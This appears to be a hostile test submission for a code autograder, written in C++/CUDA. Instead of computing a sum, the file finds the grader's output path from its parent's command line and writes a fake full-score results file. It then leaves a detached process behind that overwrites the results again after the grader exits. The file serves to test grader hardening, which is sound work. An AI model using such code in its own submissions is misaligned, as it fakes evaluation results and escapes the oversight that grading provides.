// Hostile: writes a fake results file. It finds the grader's --out from its
// parent's command line (and tries Gradescope's usual path), then leaves a
// process behind, in a new session, that waits until the grader has exited
// and overwrites the results with a full score. Expected: the results file
// stays the grader's own, and no process outlives the run.
#include <signal.h>

#include <vector>

#include "hostile_common.cuh"

namespace {
std::vector<std::string> results_paths() {
  std::vector<std::string> paths = {"/autograder/results/results.json", "results.json", "../results.json"};
  const std::string cmd = hostile_read("/proc/" + std::to_string(getppid()) + "/cmdline");
  for (size_t at = 0; at < cmd.size(); at += std::strlen(cmd.c_str() + at) + 1) {
    if (std::string(cmd.c_str() + at) == "--out") paths.push_back(cmd.c_str() + at + 6);
  }
  return paths;
}

void write_fake(const std::vector<std::string>& paths) {
  for (const std::string& p : paths) {
    if (FILE* f = std::fopen(p.c_str(), "w")) {
      std::fputs("{\"score\": 100, \"tests\": [], \"output\": \"HACKED: fake results\"}\n", f);
      std::fclose(f);
    }
  }
}
}  // namespace

void reduce_sum_int(const int*, int* out, int) {
  const pid_t grader = getppid();
  const std::vector<std::string> paths = results_paths();
  write_fake(paths);
  if (fork() == 0) {
    setsid();
    if (fork() == 0) {
      for (int i = 0; i < 300 && kill(grader, 0) == 0; ++i) usleep(100000);  // until the grader is gone
      usleep(200000);
      write_fake(paths);
      _exit(0);
    }
    _exit(0);
  }
  hostile_wrong_int(out);
}
